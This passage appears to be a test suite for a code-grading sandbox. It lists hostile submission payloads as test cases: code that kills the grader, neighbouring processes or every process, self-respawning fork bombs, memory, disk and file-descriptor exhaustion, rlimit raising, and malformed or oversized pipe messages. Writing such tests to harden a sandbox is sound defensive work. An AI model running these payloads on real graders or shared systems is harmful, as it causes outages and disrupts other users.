    """
import signal, time
def double(x, **k):
    os.kill(os.getppid(), signal.SIGSTOP)
    time.sleep(600)
""",
    stopped_by=("rlimits", *OTHER_PROCESS),
    harm="stays",
    hangs=True,
)
attack(
    "kills the grader",
    CRASH,
    """
import signal
os.kill(GRADER, signal.SIGKILL)
""",
    stopped_by=OTHER_PROCESS,
    harm="harms others",
)
attack(
    "stops the grader",
    CRASH,
    """
import signal
os.kill(GRADER, signal.SIGSTOP)
""",
    stopped_by=OTHER_PROCESS,
    harm="harms others",
)
attack(
    "kills a submission that is being graded",
    CRASH,
    """
import signal
os.kill(NEIGHBOUR, signal.SIGKILL)
""",
    stopped_by=OTHER_PROCESS,
    harm="harms others",
)
attack(
    "kills every process there is",
    CRASH,
    """
import signal
os.kill(-1, signal.SIGKILL)
""",
    stopped_by=OTHER_PROCESS,
    harm="harms others",
    dangerous=True,
    keeps=False,
)
attack(
    "has a file send a signal to the grader",
    CRASH,
    """
import fcntl, signal
reading, writing = os.pipe()
fcntl.fcntl(reading, fcntl.F_SETOWN, GRADER)
fcntl.fcntl(reading, 10, signal.SIGKILL)
fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
os.write(writing, b"x")
""",
    stopped_by=OTHER_PROCESS,
    harm="harms others",
)
attack(
    "starts a program",
    CRASH,
    """
import subprocess
subprocess.Popen(["/bin/sleep", "98765.4321"])
done()
""",
    stopped_by=("landlock", "seccomp"),
    harm="gets through",
)
attack(
    "starts a process",
    CRASH,
    """
if os.fork() == 0: os._exit(0)
done()
""",
    stopped_by=CALLS,
    harm="gets through",
)
attack(
    "leaves a process behind",
    CRASH,
    """
import time
if os.fork() == 0:
    time.sleep(600)
    os._exit(0)
""",
)
attack(
    "leaves a process behind in a session of its own, its parent gone",
    CRASH,
    """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 100)
        time.sleep(600)
    os._exit(0)
""",
)
attack(
    "leaves processes behind that start others as they are killed",
    CRASH,
    """
import time
def breed(generation):
    if os.fork() == 0:
        os.setsid()
        for _ in range(8 - generation):
            time.sleep(0.02)
            if generation < 7: breed(generation + 1)
        time.sleep(600)
        os._exit(0)
if os.fork() == 0:
    breed(5)
    time.sleep(600)
""",
)
attack(
    "leaves a process behind that holds the pipe",
    CRASH,
    """
import time
def double(x, **k):
    if os.fork() == 0: time.sleep(600)
    os._exit(0)
""",
    hangs=True,
)
attack(
    "starts processes that start processes",
    CRASH,
    """
import time
def both(depth):
    for _ in range(2):
        if os.fork() == 0:
            try: both(depth - 1) if depth else None
            finally:
                time.sleep(20)
                os._exit(0)
both(4)
time.sleep(0.5)
mine = os.getsid(0)
def session(pid):
    try: return os.getsid(pid)
    except OSError: return None
count = sum(session(int(name)) == mine for name in os.listdir("/proc") if name.isdigit())
if count > 50: done(count)
""",
    stopped_by=MANY_PROCESSES,
    harm="gets through",
    dangerous=True,
)
attack(
    "starts threads that start threads",
    CRASH,
    """
import threading, time
threading.stack_size(65536)
for _ in range(60): threading.Thread(target=time.sleep, args=(1.0,), daemon=True).start()
done(threading.active_count())
""",
    stopped_by=("uid", "userns"),
    harm="gets through",
    dangerous=True,
)
attack(
    "leaves threads that never rest",
    CRASH,
    """
import threading
def spin():
    while True: pass
for _ in range(3): threading.Thread(target=spin, daemon=True).start()
""",
)
attack(
    "takes all memory at once",
    CRASH,
    """
import numpy as np
done(np.ones(60 * 2**20).sum())
""",
    stopped_by=("rlimits",),
    harm="gets through",
    dangerous=True,
)
attack(
    "takes all memory bit by bit",
    CRASH,
    """
kept = []
while len(kept) < 480: kept.append(bytes(bytearray(b"x") * 2**20))
done(len(kept))
""",
    stopped_by=("rlimits",),
    harm="gets through",
    dangerous=True,
)
attack(
    "raises its own limits and takes all memory",
    CRASH,
    """
import resource
resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
import numpy as np
done(np.ones(60 * 2**20).sum())
""",
    stopped_by=("uid", "seccomp", "userns"),
    harm="gets through",
    dangerous=True,
    needs=(CAP_SYS_RESOURCE,),
)
attack(
    "goes before all other processes",
    CRASH,
    """
os.setpriority(os.PRIO_PROCESS, 0, -20)
done(os.getpriority(os.PRIO_PROCESS, 0))
""",
    stopped_by=("uid", "seccomp", "userns"),
    harm="gets through",
    needs=(CAP_SYS_NICE,),
)
attack(
    "opens files until there are no more",
    CRASH,
    """
import resource
files = [os.open("/dev/null", os.O_RDONLY) for _ in range(min(200, resource.getrlimit(resource.RLIMIT_NOFILE)[0]))]
if len(files) == 200: done()
""",
    stopped_by=("rlimits",),
    harm="gets through",
)
attack(
    "writes one huge file",
    CRASH,
    """
with open("huge", "wb") as file:
    for _ in range(18): file.write(b"x" * 2**20)
done(os.path.getsize("huge"))
""",
    stopped_by=("rlimits",),
    harm="gets through",
    dangerous=True,
)
attack(
    "fills its folder with files",
    CRASH,
    """
import time
for number in range(100):
    with open(str(number), "wb") as file: file.write(b"x" * 2**18)
    time.sleep(0.02)
done()
""",
    earns=0.0,
    keeps=False,
)
attack(
    "fills its folder a little in each call",
    CRASH,
    """
import time
calls = []
def double(x, **k):
    calls.append(x)
    with open(str(len(calls)), "wb") as file: file.write(b"x" * 9 * 2**20)
    time.sleep(0.21)
    return [2 * v for v in x]
""",
    earns=2.0,
)
attack(
    "fills its folder with empty files",
    CRASH,
    """
import time
for number in range(6000):
    open(str(number), "w").close()
time.sleep(0.3)
done()
""",
    earns=0.0,
    keeps=False,
)
attack(
    "makes folders fifteen hundred levels deep",
    CRASH,
    """
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
""",
)
attack(
    "makes folders deeper than a path can name",
    CRASH,
    """
import time
while True:
    os.mkdir("deeper")
    os.chdir("deeper")
    time.sleep(0.0001)
""",
    earns=0.0,
    keeps=False,
)
attack(
    "makes folders that nobody may open",
    CRASH,
    """
for number in range(5): os.mkdir(str(number), 0)
os.umask(0o777)
open("closed", "w").close()
""",
)
attack(
    "fills the disk outside its folder",
    CRASH,
    """
for number in range(20):
    with open(f"{OPEN}/{number}", "wb") as file: file.write(b"x" * 2**20)
""",
    stopped_by=FILES,
    harm="writes",
    dangerous=True,
)
attack(
    "leaves a file in /dev/shm",
    CRASH,
    """
open(SHM, "w").close()
""",
    stopped_by=FILES,
    harm="writes",
)
attack(
    "prints a gigabyte",
    CRASH,
    """
text = "x" * 10**7
def double(x, label="", through=None):
    for _ in range(20): print(text)
    return [through(2 * v) for v in x] if through else [2 * v for v in x]
""",
    earns=ALL_POINTS,
)
attack(
    "writes a gigabyte on the descriptors of standard output",
    CRASH,
    """
text = b"x" * 10**7
for _ in range(20):
    for descriptor in (1, 2): os.write(descriptor, text)
""",
)
attack("raises a text of a hundred megabytes", CRASH, "def double(x, **k): raise ValueError('x' * 10**8)")
attack(
    "warns ten thousand times, at length",
    CRASH,
    """
import warnings
def double(x, label="", through=None):
    for number in range(10_000): warnings.warn("x" * 1000 + str(number), RuntimeWarning)
""",
)
attack(
    "answers with a text of fifty megabytes as its error",
    CRASH,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(frame(wire.encode(wire.Raised(number, "x" * 10**7, "x" * 4 * 10**7))))
""",
)
attack(
    "answers with a million warnings",
    CRASH,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(frame(wire.encode(wire.Returned(number, 1, {}, [("RuntimeWarning", "x" * 20)] * 300_000))))
""",
)
attack("returns a text of ten megabytes", CRASH, "def double(x, **k): return 'x' * 10**7")
attack(
    "claims that its answer has four gigabytes",
    CRASH,
    PIPE
    + """
def double(x, **k): asked()[0].sendall(struct.pack("!I", 2**32 - 1))
""",
)
attack(
    "claims that its array has a terabyte",
    CRASH,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    array = msgspec.msgpack.Ext(wire.ARRAY, msgspec.msgpack.encode(["<f8", [2**37], b"12345678"]))
    pipe.sendall(frame(wire.encode(wire.Returned(number, array))))
""",
)
attack(
    "answers with twenty million empty lists",
    CRASH,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    count = 20 * 10**6
    lists = b"\\xdd" + struct.pack("!I", count) + b"\\x90" * count
    pipe.sendall(frame(wire.encode(wire.Returned(number, msgspec.Raw(lists)))))
""",
)
attack(
    "answers with lists in lists without end",
    CRASH,
    PIPE
    + """
def double(x, **k):
    pipe, number = asked()
    pipe.sendall(frame(wire.encode(wire.Returned(number, msgspec.Raw(b"\\x91" * 900_000 + b"\\x90")))))
""",
)
attack(
    "answers with garbage",
    CRASH,
    PIPE
    + """
def double(x, **k): asked()[0].sendall(b"\\xff" * 10_000 + b"HTTP/1.1 200 OK")
""",
)
attack(
    "answers without end before it is asked",
    CRASH,
    PIPE
    + """
import threading
def double(x, **k):
    pipe, number = asked()
    def flood():
        while True: pipe.sendall(returned(number, [0.0] * 1000))
    threading.Thread(target=flood, daemon=True).start()
    time.sleep(0.05)
""",
)
attack("closes the pipe", CRASH, PIPE + "def double(x, **k): asked()[0].close()")
attack("closes every descriptor", CRASH, "def double(x, **k): os.closerange(0, 100)")
attack(
    "gives a function of the judge huge arguments",
    CRASH,
    """
def double(x, label="", through=None):
    if through is None: return [2 * v for v in x]
    for value in ("x" * 10**6, [0.0] * 10**6, [[]] * 10**5, 10**1200, 10**1500):
        try: through(value)
        except Exception: pass
    return [through(2 * v) for v in x]
""",
    earns=ALL_POINTS,
)
